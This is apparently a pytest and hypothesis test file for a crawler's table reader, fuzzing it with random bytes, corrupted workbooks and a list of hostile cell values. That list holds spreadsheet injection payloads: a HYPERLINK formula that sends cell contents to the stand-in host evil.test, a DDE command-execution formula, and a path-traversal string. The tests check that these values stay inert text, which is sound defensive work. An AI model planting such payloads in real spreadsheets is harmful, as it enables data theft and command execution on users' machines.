"""Files that want to break the reader: whatever they hold, it is a table or a `TableError`."""

from __future__ import annotations

import random
from contextlib import suppress
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from crawler.errors import CorrectionsError, TableError
from crawler.model import Field
from crawler.plan.decisions import read_decisions
from crawler.plan.planning import plan_changes
from crawler.plan.write import apply_changes
from crawler.table import read_table
from tests.table.factory import NOW, corrections, decide, lines, save, workbook, write

quick = settings(max_examples=80, suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)

HEAD = b"name\turl\tcity\n"
data = st.one_of(
    st.binary(max_size=300),
    st.binary(max_size=200).map(lambda tail: HEAD + b"Uni A\thttps://a.edu/\tX\n" + tail),
    st.text(st.sampled_from('"\t\n\r;,|aé\0\u2028\ufeff=x'), max_size=120).map(lambda text: HEAD + text.encode()),
    st.text(st.sampled_from('"\t\n;ł\x85\x1c'), max_size=80).map(lambda text: f"name;url\n{text}".encode("utf-16")),
)


@quick
@given(data)
def test_any_bytes_are_a_table_or_a_sentence(tmp_path: Path, content: bytes) -> None:
    path = tmp_path / "any"
    path.write_bytes(content)
    try:
        table = read_table(path)
    except TableError:
        return
    rows = list(table.rows())
    assert len(rows) == table.info.rows == len({row.row_id for row in rows})
    assert all(row.line > 0 for row in rows)


@quick
@given(data)
def test_any_table_is_copied_and_changed_in_one_cell_or_refused(tmp_path: Path, content: bytes) -> None:
    path, to = tmp_path / "any", tmp_path / "out"
    path.write_bytes(content)
    try:
        table = read_table(path)
        row = list(table.rows())[-1]
        plan = plan_changes(path, corrections(table.info.sha256, decide(row, "https://new.edu/")))
        apply_changes(plan, to, by="A", now=NOW, overwrite=True)
    except (TableError, CorrectionsError):
        return
    copy = to.read_bytes()
    encoding = (table.info.encoding or "").removesuffix("-sig")
    new = "https://new.edu/".encode("utf-16-le" if encoding == "utf-16" else encoding)
    start = copy.find(new) if plan.changes else len(copy)
    if plan.changes and start >= 0 and row.url != "https://new.edu/":
        assert copy[:start].rstrip(b'\t;,|\0"') == content[: len(copy[:start].rstrip(b'\t;,|\0"'))]
    if not plan.changes:
        assert copy == content


@quick
@given(data | st.text(max_size=60).map(str.encode))
def test_any_bytes_are_corrections_or_a_sentence(tmp_path: Path, content: bytes) -> None:
    path = tmp_path / "any"
    path.write_bytes(content)
    with pytest.raises(CorrectionsError):
        read_decisions(path)


@pytest.mark.parametrize("seed", range(40))
def test_a_workbook_with_wrong_bytes_is_a_table_or_a_sentence(tmp_path: Path, seed: int) -> None:
    content = bytearray(save(workbook(), tmp_path).read_bytes())
    source = random.Random(seed)
    for _ in range(source.randint(1, 12)):
        content[source.randrange(len(content))] = source.randrange(256)
    path = tmp_path / "bad.xlsx"
    path.write_bytes(content[: source.choice([len(content), len(content) // 2, None])])
    with suppress(TableError):
        assert sum(1 for _ in read_table(path).rows()) > 0


@pytest.mark.parametrize(
    "cell",
    [
        '<a href="https://evil.test">Official site</a>',
        '=HYPERLINK("http://evil.test/?x="&A1&A2,"click")',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-",
        "@university",
        "../../etc/cron.d/x",
        "\0",
        "a\0b",
        "\u202efdp",
        "'=1+1",
        'x",=1+1,"y',
        "x" * 100_000,
    ],
)
def test_hostile_cells_are_text_and_stay(tmp_path: Path, cell: str) -> None:
    text = lines().replace("https://www.uni-koeln.de/", cell)
    path = write(tmp_path, text)
    table = read_table(path)
    rows = {row.row_id: row for row in table.rows()}
    assert rows["2"].url == cell
    to = tmp_path / "out.tsv"
    plan = plan_changes(path, corrections(table.info.sha256, decide(rows["1"], "Tirana 2", Field.CITY)))
    apply_changes(plan, to, by="A", now=NOW)
    assert to.read_bytes().decode() == text.replace("\tTirana\t", "\tTirana 2\t")
